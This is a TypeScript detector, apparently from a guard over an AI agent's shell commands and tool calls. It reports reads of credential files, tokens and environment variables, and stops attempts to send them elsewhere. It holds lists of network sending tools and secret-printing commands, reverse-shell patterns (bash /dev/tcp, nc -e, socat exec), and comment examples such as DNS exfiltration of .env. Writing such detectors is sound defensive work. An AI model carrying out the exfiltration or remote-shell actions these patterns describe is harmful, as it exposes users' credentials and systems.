import { isClientTool } from "../client-tools.js";
import { scopeOf } from "../effects/local-programs.js";
import { subcommandsOf } from "../effects/subcommands.js";
import { misplacedToken } from "../effects/token-owners.js";
import { readToolInput } from "../effects/tool-input.js";
import { isAgentsOwn, readToolName } from "../effects/tool-names.js";
import { type Finding, report, stop } from "../finding.js";
import { holdsSecret, isSecretPath } from "../secret-names.js";
import { commandLine, type Invocation, type ShellWord } from "../shell-analysis.js";
import { isShellTool } from "../shell-tools.js";
import type { Detector, Subject } from "../subject.js";
import { requestOf } from "./http-request.js";

const RULE = "secrets";
const set = (text: string) => new Set(text.split(" "));

/** Programs whose business is what stands in a file. */
const READERS = set(
  "cat head tail less more bat tac nl grep egrep rg ag awk gawk sed sort uniq cut paste strings base64 base32 xxd od hexdump openssl gpg tar zip gzip bzip2 xz 7z cp mv rsync jq yq tee " +
    "get-content gc type python python3 node ruby perl php dd pbcopy xclip clip split dotenv",
);
/** Programs that send what they are given to another machine. */
const SENDERS = set(
  "curl wget http https xh httpie nc ncat netcat socat telnet ssh scp sftp ftp lftp rsync mail mailx mutt sendmail swaks msmtp nslookup dig host drill ping " +
    "aws gsutil gcloud az rclone s3cmd s5cmd mc gh glab pastebinit ix termbin croc wormhole magic-wormhole transfer slack twilio kcat invoke-webrequest invoke-restmethod iwr irm " +
    "tftp rcp ncftpput logger lpr lp mosquitto_pub kafka-console-producer ntfy gotify apprise telegram-send slackcat aria2c ipfs transfer.sh gofile filebin onionshare-cli ffsend kubectl oc openssl huggingface-cli wandb dx nats mosquitto_pub redis-cli",
);
/** Of those, what they do with words that names no sending. */
const SENDING: Readonly<Record<string, RegExp>> = {
  aws: /^(?:s3 (?:cp|mv|sync)|s3api put|sns|sqs|ses|lambda invoke|kinesis|ssm put|secretsmanager (?:put|create))/,
  gcloud: /^(?:storage (?:cp|rsync)|pubsub|secrets)/,
  az: /^storage/,
  gh: /^(?:gist|issue|pr|release|api|secret|repo)/,
  glab: /^(?:snippet|issue|mr|api|variable)/,
  openssl: /^s_client/,
  kubectl: /^cp /,
  oc: /^(?:cp|rsync) /,
};
/** Those that do it only with an option. */
const SENDING_OPTION: Readonly<Record<string, RegExp>> = {
  logger: /^(?:-n|--server(?:=.*)?)$/,
  lpr: /^(?:-H|-P)/,
  lp: /^-[hd]/,
};
/** Programs that show a folder to whoever asks. */
const SERVERS =
  /^(?:http\.server|serve|http-server|live-server|ngrok|localtunnel|lt|cloudflared|miniserve|caddy|ran|dufs|simplehttpserver|webfsd|darkhttpd|rclone|samba|tailscale)$/;
/** Options whose value is used to prove who one is, or to set up a program, and not sent. */
const USES =
  /^(?:-i|-E|-K|-o|--(?:key|cert|cacert|identity|netrc-file|env-file|envfile|kubeconfig|config|exclude|exclude-from|key-file|private-key|ssh-key|keyfile|credentials-file|defaults-file|ca|env|passphrase-file|recipient-file|ignore))$/;
const USES_ATTACHED =
  /^--(?:key|cert|cacert|env-file|envfile|kubeconfig|exclude|config|key-file|netrc-file|defaults-file|private-key|ignore|env)=/;
/** Words behind a program that print tokens, passwords, or what a vault holds. */
const PRINTS: readonly (readonly [RegExp, RegExp])[] = [
  [/^(?:gh|glab)$/, /^auth (?:token|status .*--show-token)/],
  [/^gcloud$/, /^auth (?:application-default )?print-|^secrets versions access/],
  [
    /^aws$/,
    /^configure (?:export-credentials|get )|^secretsmanager (?:get-secret-value|batch-get)|^ssm get-parameters?\b|^sts (?:get-session-token|assume-role)|^ecr get-login/,
  ],
  [/^az$/, /^account get-access-token|^keyvault secret show/],
  [/^(?:kubectl|oc)$/, /^get secrets?\b/],
  [/^(?:vault|bao)$/, /^(?:kv get|read|print token|token lookup)/],
  [/^op$/, /^(?:read|item get|document get)/],
  [/^(?:pass|gopass)$/, /^show\b/],
  [/^(?:bw|lpass)$/, /^(?:get|show|export)/],
  [/^security$/, /^(?:find-(?:generic|internet)-password|dump-keychain|export)/],
  [/^git$/, /^credential(?:-\w+)? (?:fill|get)|^config .*token/],
  [/^heroku$/, /^(?:config|auth:token)\b/],
  [/^doppler$/, /^secrets\b/],
  [/^(?:sops|age|gpg)$/, /^(?:-d|--decrypt|decrypt|--export-secret-keys)/],
  [/^vercel$/, /^env pull\b/],
  [/^npm$/, /^(?:config get .*_authToken|token list)/],
];
/** Programs that send requests to the addresses among their words. */
const WEB = /^(?:curl|wget|https?|xh|httpie|invoke-webrequest|invoke-restmethod|iwr|irm)$/;
/** In code: what sends, and what holds every variable of the environment. */
const CODE_SENDS =
  /\bfetch\s*\(|\brequests\s*\.|\baxios\b|\bhttps?\s*\.\s*(?:request|get|post)|urllib|\bsocket\b|Net::HTTP|LWP|\bURI\b|file_get_contents\s*\(\s*["']https?:|curl_exec|https?:\/\/|\bInvoke-(?:WebRequest|RestMethod)/i;
const CODE_ENVIRONMENT =
  /JSON\.stringify\( ?process\.env|\b(?:dict|str|repr|json\.dumps)\((?:dict\()?os\.environ|os\.environ(?! ?(?:\[|\.get|\.setdefault|\.copy))|ENV\.(?:to_h|inspect|map)|\bgetenv\(\)|%ENV|print_r\(\$_(?:ENV|SERVER)/;
const CODE_QUOTED = /["'`\s]((?:~|\.{0,2})?[\w./~-]{3,120})(?=["'`\s])/g;
/** They hand out or destroy keys by themselves. */
const KEYS: readonly (readonly [string, RegExp])[] = [
  ["gpg", /--delete-(?:secret|secret-and-public)-keys?/],
  ["ssh-copy-id", /./],
];

/**
 * Key files, credentials, tokens and the environment: reading them is reported, sending them elsewhere is
 * stopped.
 */
export const detectSecrets: Detector = (subject) => {
  const finder = findersOf(subject);
  const sources: (Source | undefined)[] = [];
  // What is made of a secret is one: `cp .env /tmp/x`, `tar czf k.tgz ~/.ssh`.
  const made = new Map<string, string>();
  for (const invocation of subject.invocations) {
    const source =
      sourceOf(invocation, subject) ?? foundBy(invocation, finder) ?? remadeFrom(invocation, made);
    sources.push(source);
    if (source?.isFile || source?.reads)
      for (const path of writtenBy(invocation)) made.set(path, source.what);
  }
  const found: Finding[] = [];
  const first = sources.find((source) => source !== undefined);
  for (const [at, invocation] of subject.invocations.entries()) {
    const source = sources[at];
    const sent = sentBy(invocation, source, first, subject);
    const key = KEYS.find(
      ([name, words]) => name === invocation.name && invocation.args.some(({ text }) => words.test(text)),
    );
    if (key) found.push(stop(RULE, commandLine(invocation), "it destroys a key, or gives one access"));
    else if (givesShell(invocation) || isCodeShell(codeOf(invocation)))
      found.push(stop(RULE, commandLine(invocation), "it gives another machine a shell here"));
    else if (isServed(invocation, source, subject))
      found.push(stop(RULE, commandLine(invocation), "it shows keys or a whole home folder to whoever asks"));
    else if (sent !== undefined) found.push(stop(RULE, commandLine(invocation), sent));
    else if (source?.reads) found.push(report(RULE, commandLine(invocation), `it reads ${source.what}`));
    else if (invocation.args.some(({ text }) => text.length > 16 && holdsSecret(text)))
      found.push(report(RULE, commandLine(invocation, 30), "a password or a token stands in it"));
  }
  return [...found, ...detectAccess(subject), ...detectGit(subject), ...detectTool(subject)];
};

/** What a search finds by a name that secrets have: `find ~ -name '*.pem'`. */
function findersOf({ invocations }: Subject): Source | undefined {
  for (const { name, args } of invocations) {
    if (!/^(?:g?find|fd|fdfind|locate|mdfind)$/.test(name)) continue;
    const pattern = args.find(({ text }) => /[*?]/.test(text) && isSecretPath(text.replace(/[*?]+/g, "x")));
    const start = args.find(({ text }) => isSecretPath(text));
    const what = pattern ?? start;
    if (what) return { what: what.text, reads: false, isFile: true };
  }
  return undefined;
}

function foundBy({ via, args }: Invocation, source: Source | undefined): Source | undefined {
  if (source === undefined || !args.some(({ dynamic, text }) => dynamic || text.includes("{}")))
    return undefined;
  return via.some((one) => /^(?:g?find|fd|fdfind|xargs|parallel)$/.test(one)) ? source : undefined;
}

const COPIERS =
  /^(?:cp|mv|ln|install|rsync|tar|gtar|bsdtar|zip|7z|7za|gpg|age|openssl|base64|gzip|bzip2|xz|zstd|dd|ditto|vercel)$/;

/** The files that a command makes of what it reads. */
function writtenBy({ name, args, redirections }: Invocation): string[] {
  const words = args.map(({ text }) => text);
  const written = [
    ...redirections.map(({ target }) => target.text),
    ...words.filter((_, at) => /^(?:-o|-out|--output)$/.test(words[at - 1] ?? "")),
  ];
  if (!COPIERS.test(name)) return written;
  // An archive's name stands in front, a copy's at the end, another one's behind `-o`.
  const archive = words.find((text) => /\.(?:tar|t[gbx]z|zip|7z|gz|bz2|xz|zst|gpg|age|enc|b64)$/.test(text));
  return [...written, ...[archive, words.at(-1)].filter((text) => text !== undefined)];
}

function remadeFrom(
  { name, args, input }: Invocation,
  made: ReadonlyMap<string, string>,
): Source | undefined {
  if (made.size === 0) return undefined;
  const words = [...args.map(({ text }) => text), ...(input?.type === "file" ? [input.path] : [])];
  for (const word of words)
    for (const part of [word, ...word.split(/[@=<:;,]/)]) {
      const what = made.get(part);
      if (what !== undefined) return { what, reads: READERS.has(name), isFile: true };
    }
  return undefined;
}

/** `python3 -m http.server -d ~/.aws`, `ngrok http file:///home/me` */
function isServed(
  { name, args, folder }: Invocation,
  source: Source | undefined,
  { whereabouts }: Subject,
): boolean {
  const words = args.map(({ text }) => text);
  const module = /^python[\d.]*$/.test(name) ? (words[words.indexOf("-m") + 1] ?? "").toLowerCase() : name;
  if (!SERVERS.test(module) || (module === "rclone" && words[0] !== "serve")) return false;
  const { homeFolder } = whereabouts.context;
  const isHome = (text: string) => {
    if (text === "/" || text === "file:///") return true;
    const path = text
      .replace(/^file:\/\//, "")
      .replace(/^.*=/, "")
      .replace(/\/$/, "");
    return (
      path === "~" ||
      path === "$HOME" ||
      path === homeFolder ||
      /^(?:\/home\/[\w.-]+|\/Users\/[\w.-]+|\/root|\/)$/.test(path || "x")
    );
  };
  return (
    words.some((text) => isSecretPath(text) || isHome(text)) ||
    source?.isFile === true ||
    (folder !== undefined && folder !== "." && (isSecretPath(folder) || isHome(folder)))
  );
}

/** Whose key is added there may log in. */
function detectAccess({ changes }: Subject): Finding[] {
  const added = changes.find(({ path, kind }) => kind === "write" && /(?:^|\/)authorized_keys2?$/.test(path));
  return added ? [stop(RULE, added.by ?? added.path, "it lets whoever has a key log in here")] : [];
}

/** Where clouds give a machine its credentials. */
const METADATA =
  /(?:169\.254\.169\.254|169\.254\.170\.2|100\.100\.100\.200|metadata\.google\.internal|\[fd00:ec2::254\]).{0,200}(?:credential|token|identity)/i;
const SHELLS = /^(?:bash|sh|zsh|dash|ksh|fish|ash)$/;

/** `bash -i >& /dev/tcp/…`, `nc -e /bin/sh …`: somebody else's terminal here. */
function givesShell({ name, args, redirections }: Invocation): boolean {
  const words = args.map(({ text }) => text);
  if (SHELLS.test(name)) return redirections.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text));
  if (/^(?:nc|ncat|netcat)$/.test(name))
    return words.some((word) => /^(?:-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)$/.test(word));
  if (name === "socat")
    return (
      words.some((word) => /^(?:exec|system):/i.test(word)) &&
      words.some((word) => /^(?:tcp|openssl|udp|ssl)/i.test(word))
    );
  return false;
}

function isCodeShell(code: string | undefined): boolean {
  return code !== undefined && CODE_SHELL.test(code) && /\bsocket\b|\bnet\b|IO::Socket|TCPSocket/i.test(code);
}

const CODE_SHELL = /\bdup2\s*\(|\bpty\.spawn|\bspawn\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh["']/;

interface Source {
  what: string;
  /** Its content comes out of it, and is not only named. */
  reads: boolean;
  /** It is a file: a token that a program prints is often meant for a request. */
  isFile: boolean;
}

function sourceOf(invocation: Invocation, subject: Subject): Source | undefined {
  const { name, args, input } = invocation;
  const words = args.map(({ text }) => text);
  if (isEnvironment(invocation))
    return { what: "every variable of the environment", reads: true, isFile: false };
  const line = words.join(" ");
  if (name === "history" && words.every((word) => /^\d*$/.test(word)))
    return { what: "the commands that were typed", reads: true, isFile: false };
  if (WEB.test(name) && METADATA.test(line))
    return { what: "the machine's own credentials", reads: true, isFile: false };
  if (PRINTS.some(([program, verbs]) => program.test(name) && verbs.test(line)))
    return { what: "a token or a secret", reads: true, isFile: false };
  const path =
    secretAmong(args) ?? (input?.type === "file" && isSecretPath(input.path) ? input.path : undefined);
  if (path !== undefined)
    return { what: path, reads: READERS.has(name) && !isWriteOnly(name, args, path), isFile: true };
  const code = codeOf(invocation);
  if (code === undefined) return undefined;
  if (CODE_ENVIRONMENT.test(code))
    return { what: "every variable of the environment", reads: true, isFile: false };
  const named = [...code.matchAll(CODE_QUOTED)].map(([, text]) => text!).find(isSecretPath);
  return named !== undefined && !subject.operation.changes.some((change) => change.path === named)
    ? { what: named, reads: true, isFile: true }
    : undefined;
}

/** The secret file that a command's words name; not one that an option only uses. */
function secretAmong(args: readonly ShellWord[]): string | undefined {
  for (const [at, { text }] of args.entries()) {
    const before = args[at - 1]?.text ?? "";
    if (text.length > 400 || !MAY_NAME.test(text) || USES.test(before) || USES_ATTACHED.test(text)) continue;
    // `file=@.env`, `@.env`, `~/.aws:/a`, `if=.env`
    for (const part of [text, ...text.split(/[@=<:;,]/)]) if (part !== "" && isSecretPath(part)) return part;
  }
  return undefined;
}

/** A quick look: no name of such a file is without one of these. */
const MAY_NAME = /[.~_]|cred|secret|token|passw|environ|shadow|key|wallet/i;

/** `cp .env.example .env`: the last word of a copy is written. */
function isWriteOnly(name: string, args: readonly ShellWord[], path: string): boolean {
  if (name === "tee") return true;
  const words = args.filter(({ text }) => !text.startsWith("-"));
  return (
    /^(?:cp|mv|rsync|dd)$/.test(name) &&
    words.at(-1)?.text === path &&
    words.filter(({ text }) => isSecretPath(text)).length === 1
  );
}

function isEnvironment({ name, args, redirections }: Invocation): boolean {
  const words = args.map(({ text }) => text);
  if (name === "printenv") return true;
  if (name === "env") return words.every((word) => /^(?:-0|--null|-v)$/.test(word));
  if (name === "export" || name === "declare" || name === "typeset")
    return words.length === 1 && /^-[px]+$/.test(words[0]!);
  return (
    (name === "set" && words.length === 0 && redirections.length === 0) ||
    (name === "gci" && words[0] === "env:")
  );
}

function sentBy(
  invocation: Invocation,
  own: Source | undefined,
  first: Source | undefined,
  subject: Subject,
): string | undefined {
  const { name, args, input, redirections } = invocation;
  const why = (source: Source) => `it sends ${source.what} to another machine`;
  const code = codeOf(invocation);
  const sends = code === undefined ? WEB.test(name) : CODE_SENDS.test(code);
  const token = sends
    ? misplacedToken(
        [
          code ?? args.map(({ text }) => text).join(" "),
          ...(input?.type === "text" ? [input.text] : []),
        ].join(" "),
      )
    : undefined;
  if (token) return `it sends ${token.variable} to ${token.host}, whose token it is not`;
  if (/^(?:nc|ncat|netcat|socat)$/.test(name) && input?.type === "text" && SECRET_VARIABLE.test(input.text))
    return "it sends what a variable holds that is called after a secret";
  if (own && code !== undefined && CODE_SENDS.test(code)) return why(own);
  if (own && redirections.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text))) return why(own);
  if (
    own?.isFile &&
    (name === "docker" || name === "podman") &&
    args.some(({ text }) => /^https?:\/\//.test(text))
  )
    return why(own);
  if (!(SENDERS.has(name) ? isSending(name, args) : saysSending(invocation))) return undefined;
  if (own?.isFile && !isLocalCopy(name, args, subject)) return why(own);
  if (!first) return undefined;
  const isFed = (input?.type === "pipe" || input?.type === "text") && readsInput(invocation);
  const request = requestOf(invocation);
  // A token that a program prints often belongs into a header.
  const words =
    request && !first.isFile
      ? [...request.bodies, ...args.filter(({ text }) => /^https?:/.test(text))]
      : args;
  const isFilled = words.some(({ text, known, dynamic }) => dynamic || (!known && text.includes("(…)")));
  // `for l in $(base64 .env); do dig $l.example.com; done`: what asks for a name says it to whoever answers.
  const isAsked = ASKS_NAMES.test(name) && args.some(({ text, known }) => !known && text.includes("$"));
  return isFed || isFilled || isAsked ? why(first) : undefined;
}

const SECRET_VARIABLE =
  /\$\{?[A-Z0-9_]{0,40}(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY|DATABASE_URL|_DSN)/;
const ASKS_NAMES = /^(?:dig|nslookup|host|drill|ping|getent)$/;

/** `acme-chat send "$(cat .env)"`: a service's program whose words say so. */
function saysSending({ name, args }: Invocation): boolean {
  return name !== "" && scopeOf(name) === "service" && SENDS.test(subcommandsOf(args)[1][0] ?? "");
}

const SENDS = /^(?:send|post|upload|share|paste|publish)$/;

function isSending(name: string, args: readonly ShellWord[]): boolean {
  const verbs = SENDING[name];
  const option = SENDING_OPTION[name];
  if (option !== undefined) return args.some(({ text }) => option.test(text));
  return (
    verbs === undefined ||
    verbs.test(
      args
        .filter(({ text }) => !text.startsWith("-"))
        .map(({ text }) => text)
        .join(" "),
    )
  );
}

/** `rsync -a .env backup/` stays here. */
function isLocalCopy(name: string, args: readonly ShellWord[], { whereabouts }: Subject): boolean {
  if (!/^(?:rsync|scp|rclone|aws|gsutil|gcloud)$/.test(name)) return false;
  return !args.some(({ text }) => /^[^/\s]+:|:\/\//.test(text) && whereabouts.place(text).path !== "");
}

function readsInput({ name, args }: Invocation): boolean {
  if (!/^(?:curl|wget|http|https|xh|httpie)$/.test(name)) return true;
  return name !== "curl" && name !== "wget"
    ? true
    : args.some(({ text }) => /(?:^|=|@)-$|@-|\/dev\/stdin/.test(text));
}

/** Code that stands in a command: `node -e "…"`, and what an interpreter reads from a here-document. */
function codeOf({ name, args, input }: Invocation): string | undefined {
  if (!/^(?:node|python[\d.]*|ruby|perl|php|deno|bun|pwsh|powershell)$/.test(name)) return undefined;
  const at = args.findIndex(({ text }) => /^-[a-zA-Z]*[ecrE]$|^(?:--eval|--print|eval)$/.test(text));
  if (at !== -1) return args[at + 1]?.text.slice(0, 64 * 1024);
  return input?.type === "text" ? input.text.slice(0, 64 * 1024) : undefined;
}

/** What is committed leaves with the next push. */
function detectGit({ invocations }: Subject): Finding[] {
  const git = invocations.filter(({ name }) => name === "git");
  const added = git.find(
    ({ args }) =>
      /^(?:add|commit|stage)$/.test(args[0]?.text ?? "") && secretAmong(args.slice(1)) !== undefined,
  );
  if (!added) return [];
  const isForced = added.args.some(({ text }) => /^(?:-[a-eg-z]*f[a-z]*|--force)$/.test(text));
  const leaves = isForced || git.some(({ args }) => /^(?:push|commit)$/.test(args[0]?.text ?? ""));
  const say = leaves ? stop : report;
  return [
    say(
      RULE,
      commandLine(added),
      `it commits ${secretAmong(added.args.slice(1))}, which then leaves with a push`,
    ),
  ];
}

const SENDS_TOOL =
  /^(?:send|post|create|upload|share|attach|comment|reply|publish|add|write|update|email|message|put|insert|push|submit|invoke|call|request|fetch)$/;

function detectTool({ tool, input }: Subject): Finding[] {
  // What a command names is read from the command.
  if (isShellTool(tool)) return [];
  const texts = textsIn(input);
  const secret = texts.find(({ text }) => holdsSecret(text) || namesValue(text));
  const named = readToolInput(input).files.find(({ path }) => isSecretPath(path));
  if (!secret && !named) return [];
  if (isClientTool(tool)) {
    if (named && !secret)
      return /read|view|grep|open/i.test(tool) ? [report(RULE, tool, `it reads ${named.path}`)] : [];
    return secret && !("command" in input)
      ? [
          /fetch|search/i.test(tool)
            ? stop(RULE, tool, "it sends a token or a password")
            : report(RULE, tool, "it writes a token or a password into a file"),
        ]
      : [];
  }
  const name = readToolName(tool);
  const isHere =
    (isAgentsOwn(name) && !name.words.some((word) => word === "upload" || word === "fetch")) ||
    name.server.some((word) =>
      /^(?:filesystem|files?|fs|editor|ide|vscode|jetbrains|desktop|serena)$/.test(word),
    );
  const sends = name.words.some((word) => SENDS_TOOL.test(word));
  if (
    secret &&
    !isHere &&
    sends &&
    !/token|key|auth|password|secret|credential|header|dsn|connection/i.test(secret.key)
  )
    return [stop(RULE, tool, "it sends a token or a password to a service")];
  if (named && !isHere && sends) return [stop(RULE, tool, `it sends ${named.path} to a service`)];
  return [report(RULE, tool, named ? `it names ${named.path}` : "a password or a token stands in it")];
}

/**
 * `AWS_SECRET_ACCESS_KEY=wJalr…`: a variable that is called after a secret, and a value that looks like one.
 */
const ASSIGNED =
  /\b[A-Z][A-Z0-9_]{0,40}(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY)[A-Z0-9_]{0,20}["']?\s{0,2}[=:]\s{0,2}["']?([A-Za-z0-9+/_.~-]{16,})/;

function namesValue(text: string): boolean {
  const value = text.length < 20_000 ? ASSIGNED.exec(text)?.[1] : undefined;
  return (
    value !== undefined &&
    /[0-9]/.test(value) &&
    /[A-Za-z]/.test(value) &&
    !/^(?:your|example|changeme|x{4})/i.test(value)
  );
}

/** The texts of an input, each with the field that it stands in, down to a bounded depth. */
function textsIn(
  value: unknown,
  key = "",
  depth = 0,
  found: { key: string; text: string }[] = [],
): { key: string; text: string }[] {
  if (found.length > 500 || depth > 6) return found;
  if (typeof value === "string") {
    if (value.length > 16) found.push({ key, text: value });
  } else if (typeof value === "object" && value !== null)
    for (const [name, each] of Object.entries(value))
      textsIn(each, Array.isArray(value) ? key : name, depth + 1, found);
  return found;
}
